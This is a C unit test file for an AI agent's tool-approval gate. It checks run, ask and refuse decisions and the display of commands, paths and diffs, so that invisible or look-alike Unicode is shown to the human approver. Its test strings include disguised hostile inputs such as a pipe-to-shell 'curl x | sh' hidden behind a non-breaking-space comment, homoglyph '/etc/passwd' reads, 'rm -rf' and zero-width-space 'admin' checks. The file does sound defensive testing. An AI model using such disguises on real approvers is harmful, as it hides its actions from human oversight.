/* test_gate.c — the approval gate's decisions, visible text and diff. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "agent/gate.h"
#include "tools/tools_limits.h"
#include "util/utf8.h"

static void gate_ceiling_and_approval(void **state)
{
	struct gate g;
	gate_init(&g, GATE_READONLY_MASK, 1);
	assert_int_equal(gate_decide(&g, "read"), GATE_RUN);
	assert_int_equal(gate_decide(&g, "grep"), GATE_RUN);
	assert_int_equal(gate_decide(&g, "bash"), GATE_REFUSE);
	assert_int_equal(gate_decide(&g, "write"), GATE_REFUSE);
	assert_int_equal(gate_decide(&g, "rm"), GATE_REFUSE);
	gate_init(&g, GATE_ALL_MASK, 1);
	assert_int_equal(gate_decide(&g, "ls"), GATE_RUN);	/* read-only never asks */
	assert_int_equal(gate_decide(&g, "bash"), GATE_ASK);
	assert_int_equal(gate_decide(&g, "edit"), GATE_ASK);
	gate_remember_always(&g, "bash");
	assert_int_equal(gate_decide(&g, "bash"), GATE_RUN);
	assert_int_equal(gate_decide(&g, "edit"), GATE_ASK);
	gate_init(&g, GATE_ALL_MASK, 0);
	assert_int_equal(gate_decide(&g, "bash"), GATE_RUN);
	char *t = gate_refusal_text("bash", 0, NULL);
	assert_non_null(strstr(t, "--allow-tool bash"));
	free(t);
	t = gate_refusal_text("bash", 1, "too risky");
	assert_non_null(strstr(t, "too risky"));
	free(t);
}

static void gate_whole_bounded(void **state)
{
	(void)state;
	char *w = gate_whole("bash", "{\"command\":\"ls\"}", NULL);
	assert_string_equal(w, "the whole bash call:\narguments: {\"command\":\"ls\"}\n");
	free(w);
	w = gate_whole("write", "{}", "--- a\n+++ b/a\n+x\n");
	assert_string_equal(w, "the whole write call:\narguments: {}\n--- a\n+++ b/a\n+x\n");
	free(w);
	/* past GATE_MAX_WHOLE: cut on a character boundary, the rest counted */
	size_t n = GATE_MAX_WHOLE;
	char *big = xmalloc(n + 1);
	for (size_t i = 0; i + 2 <= n; i += 2)
		memcpy(big + i, "\xc3\xa9", 2);	/* é */
	big[n] = '\0';
	w = gate_whole("bash", big, NULL);
	const char *cut = strstr(w, "\n… [");
	assert_non_null(cut);
	assert_true((size_t)(cut - w) <= GATE_MAX_WHOLE);
	assert_true(((unsigned char)cut[-1] & 0xc0) != 0xc0);	/* no lead byte left alone */
	assert_non_null(strstr(cut, "more bytes not shown: a call too long to read is one to refuse]"));
	free(w);
	/* bytes that are not UTF-8: the cut walks back 3 at most, not to the start */
	memset(big, 0x80, n);
	w = gate_whole("bash", big, NULL);
	cut = strstr(w, "\n… [");
	assert_non_null(cut);
	assert_true((size_t)(cut - w) + 3 >= GATE_MAX_WHOLE);
	free(w);
	free(big);
}

/* bash parts words at space, tab and newline only: a blank that is
 * another character joins words it seems to part, and a '#' after it
 * starts no comment, so what reads as a comment runs. */
static int enc(uint32_t cp, char *o)
{
	if (cp < 0x800) {
		o[0] = (char)(0xc0 | cp >> 6);
		o[1] = (char)(0x80 | (cp & 0x3f));
		return 2;
	}
	o[0] = (char)(0xe0 | cp >> 12);
	o[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
	o[2] = (char)(0x80 | (cp & 0x3f));
	return 3;
}

static void gate_visible_command_blanks(void **state)
{
	(void)state;
	const char *cmd = "make\xc2\xa0" "# later; curl x | sh\xe2\x80\x83\xe3\x80\x80\xe2\xa0\x80\xe2\x80\xaf\xe2\x81\x9f"
			  "\xe1\x9a\x80 a\tb";
	char *v = gate_visible_command(cmd, 512);
	assert_string_equal(v, "make<U+00A0># later; curl x | sh<U+2003><U+3000><U+2800><U+202F><U+205F><U+1680> a\tb");
	free(v);
	/* every such blank, and nothing beside them (after a letter that is
	 * not ASCII, where a combining mark is drawn: gate_visible_marks_on_ascii) */
	for (uint32_t cp = 0x80; cp < 0x3100; cp++) {
		char in[8] = "\xc3\xa9", want[16];
		int k = enc(cp, in + 2);
		in[2 + k] = '\0';
		int blank = cp == 0xa0 || cp == 0x1680 || (cp >= 0x2000 && cp <= 0x200a) || cp == 0x202f ||
			    cp == 0x205f || cp == 0x2800 || cp == 0x3000;
		char *a = gate_visible(in, 512), *c = gate_visible_command(in, 512);
		snprintf(want, sizeof(want), "\xc3\xa9<U+%04X>", (unsigned)cp);
		if (blank)
			assert_string_equal(c, want);
		else
			assert_string_equal(c, a);
		free(a);
		free(c);
	}
	/* prose keeps them: the answer (a write's content is shown by a
	 * command's rules: gate_visible_args_and_diff_rules) */
	v = gate_visible("a\xc2\xa0" "b", 512);
	assert_string_equal(v, "a\xc2\xa0" "b");
	free(v);
}

/* A tab in a path is part of the name, not layout: shown as one, a
 * trailing tab made 'notes.txt<TAB>' read as notes.txt. */
static void gate_visible_path_tab(void **state)
{
	(void)state;
	char *v = gate_visible_path("notes.txt\t", 512);
	assert_string_equal(v, "notes.txt\\x09");
	free(v);
	v = gate_visible_path("a\tb", 512);
	assert_string_equal(v, "a\\x09b");
	free(v);
	v = gate_visible("a\tb", 512);	/* a command or content keeps its tabs */
	assert_string_equal(v, "a\tb");
	free(v);
}

/* f(in) is want. */
static void shows(char *(*f)(const char *, size_t), const char *in, const char *want)
{
	char *v = f(in, 512);
	assert_string_equal(v, want);
	free(v);
}

/* A blank in a path that is no space: 'notes.txt<U+00A0>' is another
 * file than notes.txt, 'a<U+2003>b' one name, not two. */
static void gate_visible_path_blanks(void **state)
{
	(void)state;
	shows(gate_visible_path, "notes.txt\xc2\xa0", "notes.txt<U+00A0>");
	shows(gate_visible_path, "a\xe2\x80\x83" "b\xe3\x80\x80" "c\xe2\xa0\x80" "d e", "a<U+2003>b<U+3000>c<U+2800>d e");
	/* every such blank, and nothing beside them (after a letter that is
	 * not ASCII, where a combining mark is drawn) */
	for (uint32_t cp = 0x80; cp < 0x3100; cp++) {
		char in[8] = "\xc3\xa9", want[16];
		in[2 + enc(cp, in + 2)] = '\0';
		int blank = cp == 0xa0 || cp == 0x1680 || (cp >= 0x2000 && cp <= 0x200a) || cp == 0x202f ||
			    cp == 0x205f || cp == 0x2800 || cp == 0x3000;
		char *line = gate_visible_line(in, 512);
		snprintf(want, sizeof(want), "\xc3\xa9<U+%04X>", (unsigned)cp);
		shows(gate_visible_path, in, blank ? want : line);
		free(line);
	}
}

/* A mark drawn on an ASCII character changes how it reads ('/etc/pas'
 * U+0338 'swd' strikes an 's' through): in a command or a path it is
 * shown, each of a run of them; on a letter of another script it is
 * drawn, and prose keeps it. */
static void gate_visible_marks_on_ascii(void **state)
{
	(void)state;
	shows(gate_visible_path, "/etc/pas\xcc\xb8swd", "/etc/pas<U+0338>swd");
	shows(gate_visible_command, "cat /etc/pas\xcc\xb8swd", "cat /etc/pas<U+0338>swd");
	/* overlays, a run of marks, one at the start, one on a space, the
	 * combining marks for symbols (U+20D2, an enclosing U+20DD) */
	shows(gate_visible_command, "\xcc\x81rm -rf a\xcc\xb5\xcc\xb6 /\xe2\x83\x92 \xe2\x83\x9d",
	      "<U+0301>rm -rf a<U+0335><U+0336> /<U+20D2> <U+20DD>");
	/* after a mark shown, the next is drawn on its '>': shown too */
	shows(gate_visible_path, "x\xe2\x80\x8b\xcc\x81", "x<U+200B><U+0301>");
	/* real text: Greek with its accent, Hindi's vowel sign, Vietnamese
	 * with two marks on a precomposed letter, Hebrew points */
	const char *real[] = { "\xce\xb1\xcc\x81", "\xe0\xa4\x95\xe0\xa4\xbf\xe0\xa4\x81", "\xc3\xa2\xcc\x83\xcc\x80",
			       "\xd7\xa9\xd7\x81\xd6\xb8" };
	for (size_t i = 0; i < sizeof(real) / sizeof(real[0]); i++) {
		shows(gate_visible_path, real[i], real[i]);
		shows(gate_visible_command, real[i], real[i]);
	}
	/* prose keeps a mark after ASCII */
	shows(gate_visible, "cafe\xcc\x81", "cafe\xcc\x81");
	/* what glibc's tables do not know (wcwidth -1) is taken as a mark
	 * after ASCII: U+0897, an Arabic mark of Unicode 15 (glibc 2.36 has
	 * 14), which a newer terminal draws on the letter, and U+0E3B,
	 * unassigned; after a letter of another script it is drawn */
	shows(gate_visible_path, "a\xe0\xa2\x97" "b a\xe0\xb8\xbb", "a<U+0897>b a<U+0E3B>");
	shows(gate_visible_path, "\xd8\xa8\xe0\xa2\x97", "\xd8\xa8\xe0\xa2\x97");
	/* every mark of the block, after a letter */
	for (uint32_t cp = 0x300; cp <= 0x36f; cp++) {
		char in[8], want[16];
		in[0] = 'a';
		in[1 + enc(cp, in + 1)] = '\0';
		snprintf(want, sizeof(want), "a<U+%04X>", (unsigned)cp);
		shows(gate_visible_path, in, want);
	}
}

/* The arguments line holds the path and the text a write or an edit
 * would put in the file, and the diff shows that text: both by the
 * rules of the subject.  Before, the line under 'no<U+0338>tes.txt'
 * drew the path struck through, and a script's 'make<U+00A0># x; curl
 * x | sh' read as a comment in the arguments and the diff alike. */
static void gate_visible_args_and_diff_rules(void **state)
{
	(void)state;
	shows(gate_visible_args, "{\"path\":\"no\xcc\xb8tes.txt\xc2\xa0\",\"content\":\"make\xc2\xa0# x; curl x | sh\\n\"}",
	      "{\"path\":\"no<U+0338>tes.txt<U+00A0>\",\"content\":\"make<U+00A0># x; curl x | sh\\n\"}");
	/* an edit's old and new, a mark at a string's start (on its '"') */
	shows(gate_visible_args, "{\"path\":\"a\",\"old\":\"\xcc\xb6x\",\"new\":\"cat /etc/pas\xcc\xb8swd\"}",
	      "{\"path\":\"a\",\"old\":\"<U+0336>x\",\"new\":\"cat /etc/pas<U+0338>swd\"}");
	/* what the arguments line drew as it was, it still does */
	shows(gate_visible_args, "{\"content\":\"caf\xc3\xa9 \xce\xb1\xcc\x81 \xe4\xb8\x96\"}",
	      "{\"content\":\"caf\xc3\xa9 \xce\xb1\xcc\x81 \xe4\xb8\x96\"}");
	char *d = gate_diff("run.sh", NULL, "make\xc2\xa0# x; curl x | sh\n\xcc\xb8" "cat /etc/pas\xcc\xb8swd\n\xce\xb1\xcc\x81\n",
			    100, 0);
	assert_string_equal(d, "--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1,3 @@\n+make<U+00A0># x; curl x | sh\n"
			       "+<U+0338>cat /etc/pas<U+0338>swd\n+\xce\xb1\xcc\x81\n");
	free(d);
	/* a line cut by the question: the mark at the cut is still judged */
	d = gate_diff("f", NULL, "ab\xcc\xb8" "cd\n", 100, 3);
	assert_string_equal(d, "--- /dev/null\n+++ b/f\n@@ -0,0 +1,1 @@\n+ab<U+0338>… [line cut: 2 more bytes]\n");
	free(d);
	/* the answer (gate_show_hidden) is prose: it keeps them */
	uint32_t prev = 0;
	size_t len;
	char *a = gate_show_hidden("caf\x65\xcc\x81\xc2\xa0!", 9, &prev, &len);
	assert_string_equal(a, "caf\x65\xcc\x81\xc2\xa0!");
	free(a);
}

/* A word that mixes ASCII letters with letters of Greek, Cyrillic or
 * Armenian: '/etc/p' U+0430 'sswd' (a Cyrillic a) reads as /etc/passwd
 * and is another file.  In a command, a path, the arguments and the diff
 * those letters are shown; a word wholly in one script is drawn, and
 * prose keeps them. */
static void gate_visible_mixed_script(void **state)
{
	(void)state;
	shows(gate_visible_command, "cat /etc/p\xd0\xb0sswd", "cat /etc/p<U+0430>sswd");
	shows(gate_visible_path, "/etc/p\xd0\xb0sswd", "/etc/p<U+0430>sswd");
	/* Greek omicron, Armenian oh, the Supplement's d (U+0501), each in
	 * a word of ASCII letters; a digit and '.', '_', '-' join a word */
	shows(gate_visible_command, "g\xce\xbf \xd6\x85k \xd4\x81og a_\xd0\xb5 x-\xd1\x81 1.\xd1\x80y",
	      "g<U+03BF> <U+0585>k <U+0501>og a_<U+0435> x-<U+0441> 1.<U+0440>y");
	/* the Greek question mark (drawn as ';') in a word: 'a;rm' is one */
	shows(gate_visible_command, "echo a\xcd\xberm", "echo a<U+037E>rm");
	/* a mark after a letter shown is drawn on its '>': shown too */
	shows(gate_visible_command, "p\xd0\xb0\xcc\x81ss", "p<U+0430><U+0301>ss");
	/* one script to a word: Russian, Greek, Armenian words, a digit, and
	 * words parted by '/', ' ', '=', ':' beside ASCII ones */
	const char *one[] = {
		"cat /tmp/\xd0\xbe\xd1\x82\xd1\x87\xd1\x91\xd1\x82 \xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 "
		"\xce\xb1\xce\xb2\xce\xb3 \xd5\xa2\xd5\xa1\xd6\x80\xd5\xa5\xd6\x82",
		"\xd1\x84\xd0\xb0\xd0\xb9\xd0\xbb" "1/passwd name=\xd0\xb8\xd0\xbc\xd1\x8f:x",
		"caf\xc3\xa9 \xe4\xb8\x96\xe7\x95\x8c \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
	};
	for (size_t i = 0; i < sizeof(one) / sizeof(one[0]); i++) {
		shows(gate_visible_command, one[i], one[i]);
		shows(gate_visible_path, one[i], one[i]);
	}
	/* the word is judged whole, past where the text is cut */
	char *v = gate_visible_command("\xd0\xb0" "bc", 1);
	assert_string_equal(v, "<U+0430>… [cut: 2 more bytes]");
	free(v);
	/* printed JSON: an escape parts words ('\n' is no 'n' of the next) */
	shows(gate_visible_args, "{\"c\":\"a\\n\xd0\xbf\xd1\x80\xd0\xb8 \\u001b\xd0\xbf\"}",
	      "{\"c\":\"a\\n\xd0\xbf\xd1\x80\xd0\xb8 \\u001b\xd0\xbf\"}");
	shows(gate_visible_args, "{\"path\":\"/etc/p\xd0\xb0sswd\"}", "{\"path\":\"/etc/p<U+0430>sswd\"}");
	char *d = gate_diff("f", NULL, "cat /etc/p\xd0\xb0sswd \xd0\xbf\xd1\x80\xd0\xb8\n", 100, 0);
	assert_non_null(strstr(d, "\n+cat /etc/p<U+0430>sswd \xd0\xbf\xd1\x80\xd0\xb8\n"));
	free(d);
	/* prose keeps them */
	shows(gate_visible, "p\xd0\xb0sswd", "p\xd0\xb0sswd");
	/* every character of these blocks, in a word of ASCII letters;
	 * none of Latin-1, Hebrew, CJK */
	for (uint32_t cp = 0x370; cp <= 0x1fff; cp++) {
		if (cp == 0x590)
			cp = 0x1f00;
		char in[8], want[24];
		in[0] = 'x';
		size_t k = (size_t)enc(cp, in + 1);
		in[1 + k] = 'y';
		in[2 + k] = '\0';
		snprintf(want, sizeof(want), "x<U+%04X>y", (unsigned)cp);
		shows(gate_visible_command, in, want);
	}
	shows(gate_visible_command, "x\xc3\xa9y x\xd7\xa9y x\xe4\xb8\x96y", "x\xc3\xa9y x\xd7\xa9y x\xe4\xb8\x96y");
}

static void gate_visible_escapes(void **state)
{
	char *v = gate_visible("rm -rf /\x1b[2J\xe2\x80\xae" "evil\tx\n\xff", 512);
	assert_string_equal(v, "rm -rf /\\x1b[2J<U+202E>evil\tx\n\\xff");
	free(v);
	v = gate_visible_line("a\nsandbx audit exited\tx", 512);	/* one line: \n escaped, \t kept */
	assert_string_equal(v, "a\\x0asandbx audit exited\tx");
	free(v);
	/* a path: a backslash too, so the name 'a\x0ab' is not shown as 'a<LF>b' is */
	v = gate_visible_path("a\nb", 512);
	assert_string_equal(v, "a\\x0ab");
	free(v);
	v = gate_visible_path("a\\x0ab", 512);
	assert_string_equal(v, "a\\x5cx0ab");
	free(v);
	v = gate_visible_line("C:\\dir", 512);	/* other text keeps its backslashes */
	assert_string_equal(v, "C:\\dir");
	free(v);
	char big[2000];
	memset(big, 'a', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	v = gate_visible(big, 512);
	assert_non_null(strstr(v, "[cut: 1487 more bytes]"));
	assert_int_equal(strspn(v, "a"), 512);
	free(v);
	v = gate_visible("h\xc3\xa9llo \xe4\xb8\x96", 512);	/* UTF-8 kept */
	assert_string_equal(v, "h\xc3\xa9llo \xe4\xb8\x96");
	free(v);
	/* what draws nothing yet runs: zero-width space, BOM, a tag letter */
	v = gate_visible("rm\xe2\x80\x8b -f a\xef\xbb\xbf\xf3\xa0\x81\x81", 512);
	assert_string_equal(v, "rm<U+200B> -f a<U+FEFF><U+E0041>");
	free(v);
}

static size_t enc_utf8(uint32_t cp, char *o)
{
	if (cp < 0x800) {
		o[0] = (char)(0xc0 | (cp >> 6)), o[1] = (char)(0x80 | (cp & 0x3f));
		return 2;
	}
	if (cp < 0x10000) {
		o[0] = (char)(0xe0 | (cp >> 12)), o[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
		o[2] = (char)(0x80 | (cp & 0x3f));
		return 3;
	}
	o[0] = (char)(0xf0 | (cp >> 18)), o[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
	o[2] = (char)(0x80 | ((cp >> 6) & 0x3f)), o[3] = (char)(0x80 | (cp & 0x3f));
	return 4;
}

/* Every Default_Ignorable_Code_Point of Unicode (DerivedCoreProperties.txt:
 * what a renderer draws as nothing, assigned or not), and the line and
 * paragraph separators, which a terminal draws as nothing or a blank and
 * not as a line break: each is shown as <U+XXXX>, in the arguments and in
 * the diff.  Before, U+206A..U+206F (width 0) passed as they were, so
 * "ad\u206amin" read as "admin". */
static void gate_visible_ignorable(void **state)
{
	(void)state;
	static const uint32_t r[][2] = {
		{ 0x00ad, 0x00ad }, { 0x034f, 0x034f }, { 0x061c, 0x061c }, { 0x115f, 0x1160 }, { 0x17b4, 0x17b5 },
		{ 0x180b, 0x180f }, { 0x200b, 0x200f }, { 0x202a, 0x202e }, { 0x2060, 0x206f }, { 0x3164, 0x3164 },
		{ 0xfe00, 0xfe0f }, { 0xfeff, 0xfeff }, { 0xffa0, 0xffa0 }, { 0xfff0, 0xfff8 }, { 0x1bca0, 0x1bca3 },
		{ 0x1d173, 0x1d17a }, { 0xe0000, 0xe0fff }, { 0x2028, 0x2029 },
	};
	for (size_t k = 0; k < sizeof(r) / sizeof(r[0]); k++) {
		for (uint32_t cp = r[k][0]; cp <= r[k][1]; cp++) {
			char in[16], want[32];
			size_t n = enc_utf8(cp, in + 2);
			memcpy(in, "ad", 2);
			memcpy(in + 2 + n, "min", 4);
			snprintf(want, sizeof(want), "ad<U+%04X>min", (unsigned)cp);
			char *v = gate_visible(in, 512);
			if (strcmp(v, want) != 0)
				fail_msg("U+%04X shown as '%s'", (unsigned)cp, v);
			free(v);
			/* the bidi controls are left to the diff's writer (^X, <U+XXXX>) */
			char *d = gate_diff("f", NULL, in, 100, 0);
			if (!utf8_is_bidi(cp) && !strstr(d, want))
				fail_msg("U+%04X in the diff as '%s'", (unsigned)cp, d);
			free(d);
		}
	}
}

/* One emoji presentation selector after a symbol (the warning sign, the
 * check mark) only picks how it is drawn: it is kept in the model's text
 * (gate_visible, gate_show_hidden), and shown in what is approved (the
 * command, a path, the arguments, the diff).  A second one, one after a
 * letter, the text selector and the joiner are shown everywhere. */
static void gate_visible_emoji_selector(void **state)
{
	(void)state;
	char *v = gate_visible("echo \xe2\x9a\xa0\xef\xb8\x8f done \xe2\x9a\xa0\xef\xb8\x8f\xef\xb8\x8f", 512);
	assert_string_equal(v, "echo \xe2\x9a\xa0\xef\xb8\x8f done \xe2\x9a\xa0\xef\xb8\x8f<U+FE0F>");
	free(v);
	v = gate_visible("a\xef\xb8\x8f \xe2\x9a\xa0\xef\xb8\x8e \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9", 512);
	assert_string_equal(v, "a<U+FE0F> \xe2\x9a\xa0<U+FE0E> \xf0\x9f\x91\xa8<U+200D>\xf0\x9f\x91\xa9");
	free(v);
	/* What is approved shows every selector: a terminal may draw the
	 * symbol two columns wide where the screen counts one, and push the
	 * row's end past the margin. */
	char *d = gate_diff("f", NULL, "\xe2\x9c\x85\xef\xb8\x8f ok\nx\xef\xb8\x8f\n", 100, 0);
	assert_non_null(strstr(d, "+\xe2\x9c\x85<U+FE0F> ok\n"));
	assert_non_null(strstr(d, "+x<U+FE0F>\n"));
	free(d);
	v = gate_visible_command("echo \xe2\x9a\xa0\xef\xb8\x8f; rm -rf x", 512);
	assert_string_equal(v, "echo \xe2\x9a\xa0<U+FE0F>; rm -rf x");
	free(v);
	v = gate_visible_path("\xe2\x9a\xa0\xef\xb8\x8f.txt", 512);
	assert_string_equal(v, "\xe2\x9a\xa0<U+FE0F>.txt");
	free(v);
	v = gate_visible_args("{\"a\":\"\xe2\x9a\xa0\xef\xb8\x8f\"}", 512);
	assert_string_equal(v, "{\"a\":\"\xe2\x9a\xa0<U+FE0F>\"}");
	free(v);
	assert_true(gate_hidden(0, 0x200b));
	assert_true(gate_hidden(0x26a0, 0x200d));
	assert_false(gate_hidden(0x26a0, 0xfe0f));
	assert_true(gate_hidden('1', 0xfe0f));
	assert_true(gate_hidden(0xfe0f, 0xfe0f));
	assert_false(gate_hidden(0, 'a'));
	/* in pieces: the character before a piece is carried */
	uint32_t prev = 0;
	size_t len;
	char *a = gate_show_hidden("ad\xe2\x80\x8bmin \xe2\x9a\xa0", 12, &prev, &len);
	assert_string_equal(a, "ad<U+200B>min \xe2\x9a\xa0");
	assert_int_equal(len, strlen(a));
	char *b = gate_show_hidden("\xef\xb8\x8f\xef\xb8\x8f\x1b", 7, &prev, &len);
	assert_string_equal(b, "\xef\xb8\x8f<U+FE0F>\x1b");	/* controls: the terminal writer's */
	free(a);
	free(b);
	prev = 0;
	a = gate_show_hidden("x\xef\xb8", 3, &prev, &len);	/* cut short: left as it came */
	assert_memory_equal(a, "x\xef\xb8", 3);
	assert_int_equal(len, 3);
	free(a);
}

static void gate_diff_shapes(void **state)
{
	char *d = gate_diff("f.txt", "a\nb\nc\nd\ne\nf\ng\nh\n", "a\nb\nc\nD\ne\nf\ng\nh\n", 100, 0);
	assert_string_equal(d, "--- f.txt\n+++ b/f.txt\n@@ -1,7 +1,7 @@\n a\n b\n c\n-d\n+D\n e\n f\n g\n");
	free(d);
	d = gate_diff("new.txt", NULL, "x\ny\n", 100, 0);
	assert_string_equal(d, "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1,2 @@\n+x\n+y\n");
	free(d);
	/* what draws nothing is shown in the diff too: a zero-width space in
	 * a compared name, and text hidden in tag characters ("hi") */
	d = gate_diff("f", "if user == \"admin\":\n", "if user == \"ad\xe2\x80\x8bmin\":\n"
		      "# ok\xf3\xa0\x81\xa8\xf3\xa0\x81\xa9\n", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n@@ -1,1 +1,2 @@\n-if user == \"admin\":\n"
			       "+if user == \"ad<U+200B>min\":\n+# ok<U+E0068><U+E0069>\n");
	free(d);
	d = gate_diff("f", "1\n2\n3\n", "1\n2\n3\n4\n5\n", 1, 0);
	assert_non_null(strstr(d, "[diff cut at 1 lines]"));
	free(d);
}

/* A line longer than the question shows is cut at max_line characters
 * (not bytes: a character is never split), the cut marked with what is
 * left; 0 shows it whole.  Before, one line of megabytes pushed the
 * question's path out of the terminal's scrollback. */
static void gate_diff_long_line(void **state)
{
	(void)state;
	char *d = gate_diff("f", NULL, "abcdef\nxy\n", 100, 4);
	assert_string_equal(d, "--- /dev/null\n+++ b/f\n@@ -0,0 +1,2 @@\n+abcd… [line cut: 2 more bytes]\n+xy\n");
	free(d);
	d = gate_diff("f", NULL, "\xc3\xa9\xc3\xa9\xc3\xa9\n", 100, 2);	/* éé, then é cut */
	assert_string_equal(d, "--- /dev/null\n+++ b/f\n@@ -0,0 +1,1 @@\n+\xc3\xa9\xc3\xa9… [line cut: 2 more bytes]\n");
	free(d);
	d = gate_diff("f", "old\n", "abcdef", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n@@ -1,1 +1,1 @@\n-old\n+abcdef\n\\ No newline at end of file\n");
	free(d);
	d = gate_diff("f", NULL, "abcd\n", 100, 4);	/* exactly max: whole, no mark */
	assert_string_equal(d, "--- /dev/null\n+++ b/f\n@@ -0,0 +1,1 @@\n+abcd\n");
	free(d);
}

/* The header names the path whole, however long the caller's visible
 * form of it (512 characters of <U+200B> are 4 KiB): before, it was
 * printed into 4,200 bytes, and a longer one lost the "+++ b/" line and
 * the newline before the first hunk's "@@". */
static void gate_diff_long_path(void **state)
{
	(void)state;
	char path[3001];
	memset(path, 'p', 3000);
	path[3000] = '\0';
	char *want = xasprintf("--- %s\n+++ b/%s\n@@ -1,1 +1,1 @@\n-a\n+b\n", path, path);
	char *d = gate_diff(path, "a\n", "b\n", 100, 0);
	assert_string_equal(d, want);
	free(d);
	free(want);
}

/* A change of the last line's newline alone is a change: before, the
 * diff showed no hunk at all, so the question read as "nothing changes"
 * while the write did change the file. */
static void gate_diff_eof_newline(void **state)
{
	(void)state;
	char *d = gate_diff("f", "a\nb", "a\nb\n", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n");
	free(d);
	d = gate_diff("f", "x\n", "x", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n@@ -1,1 +1,1 @@\n-x\n+x\n\\ No newline at end of file\n");
	free(d);
	/* unchanged, with or without it: no hunk */
	d = gate_diff("f", "x", "x", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n");
	free(d);
	d = gate_diff("f", "x\ny", "x\nY", 100, 0);
	assert_string_equal(d, "--- f\n+++ b/f\n@@ -1,2 +1,2 @@\n x\n-y\n\\ No newline at end of file\n+Y\n"
			       "\\ No newline at end of file\n");
	free(d);
	d = gate_diff("new", NULL, "z", 100, 0);
	assert_string_equal(d, "--- /dev/null\n+++ b/new\n@@ -0,0 +1,1 @@\n+z\n\\ No newline at end of file\n");
	free(d);
}

/* One message's calls: 4 MiB of results or 20 minutes of running, at the
 * byte and the millisecond; the bytes are said first when both are spent. */
static void gate_message_budget_edges(void **state)
{
	(void)state;
	assert_null(gate_message_budget(0, 0));
	assert_null(gate_message_budget(TOOLS_MESSAGE_BYTES - 1, TOOLS_MESSAGE_SECONDS * 1000L - 1));
	char *m = gate_message_budget(TOOLS_MESSAGE_BYTES, 0);
	assert_string_equal(m, "not run: the tool calls of this message already returned 4 MiB, all one message's "
			       "results may hold — ask for the rest in the next message");
	free(m);
	m = gate_message_budget(0, TOOLS_MESSAGE_SECONDS * 1000L);
	assert_string_equal(m, "not run: the tool calls of this message already took 1200 s, all one message's "
			       "calls may take — ask for the rest in the next message");
	free(m);
	m = gate_message_budget(TOOLS_MESSAGE_BYTES + 1, TOOLS_MESSAGE_SECONDS * 1000L + 1);
	assert_non_null(strstr(m, "returned 4 MiB"));
	free(m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(gate_ceiling_and_approval),
		cmocka_unit_test(gate_visible_escapes),
		cmocka_unit_test(gate_visible_command_blanks),
		cmocka_unit_test(gate_visible_path_tab),
		cmocka_unit_test(gate_visible_path_blanks),
		cmocka_unit_test(gate_visible_marks_on_ascii),
		cmocka_unit_test(gate_visible_args_and_diff_rules),
		cmocka_unit_test(gate_visible_mixed_script),
		cmocka_unit_test(gate_visible_ignorable),
		cmocka_unit_test(gate_visible_emoji_selector),
		cmocka_unit_test(gate_diff_shapes),
		cmocka_unit_test(gate_diff_eof_newline),
		cmocka_unit_test(gate_diff_long_line),
		cmocka_unit_test(gate_diff_long_path),
		cmocka_unit_test(gate_whole_bounded),
		cmocka_unit_test(gate_message_budget_edges),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
